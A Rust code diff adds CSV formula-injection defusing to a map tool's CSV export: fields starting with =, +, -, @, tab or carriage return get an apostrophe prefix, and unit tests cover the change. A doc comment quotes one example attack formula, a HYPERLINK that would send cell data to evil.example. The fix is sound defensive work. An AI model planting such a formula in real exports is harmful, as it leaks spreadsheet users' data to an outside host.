@@ -8,12 +8,18 @@ use crate::layout::{CountryShape, MapLayout, AGAINST_MARK, AGAINST_MARK_RADIUS};
 use crate::model::FlowValue;
 use std::fmt::Write;
 
-/// Quotes a CSV field when it needs it (RFC 4180).
+/// Quotes a CSV field when it needs it (RFC 4180). A field a spreadsheet would run as a
+/// formula (it starts with `=`, `+`, `-`, `@`, a tab or a carriage return) is written after an
+/// apostrophe, which spreadsheets show as text: a dataset text such as
+/// `=HYPERLINK("https://evil.example/?"&A1)` must not become a live formula on a reader's
+/// machine. (The figures are never negative; the JSON download keeps every text as it is.)
 fn csv_field(s: &str) -> String {
+    let formula = s.starts_with(['=', '+', '-', '@', '\t', '\r']);
+    let s = if formula { format!("'{s}") } else { s.to_string() };
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
     } else {
-        s.to_string()
+        s
     }
 }
 
@@ -321,6 +327,17 @@ fn against_mark(s: &mut String, x: f64, y: f64, color: &str) {
 #[cfg(test)]
 mod test {
     use super::*;
+
+    #[test]
+    fn csv_defuses_formulas() {
+        assert_eq!(csv_field("=1+1"), "'=1+1");
+        assert_eq!(csv_field("@SUM(A1)"), "'@SUM(A1)");
+        assert_eq!(csv_field("-2+3"), "'-2+3");
+        assert_eq!(csv_field("\t=1"), "'\t=1");
+        assert_eq!(csv_field("=HYPERLINK(\"x\",\"y\")"), "\"'=HYPERLINK(\"\"x\"\",\"\"y\"\")\"");
+        assert_eq!(csv_field("a=1"), "a=1");
+        assert_eq!(csv_field("2023-07"), "2023-07");
+    }
 
     #[test]
     fn csv_quotes_what_needs_it_and_reads_back_the_ids() {
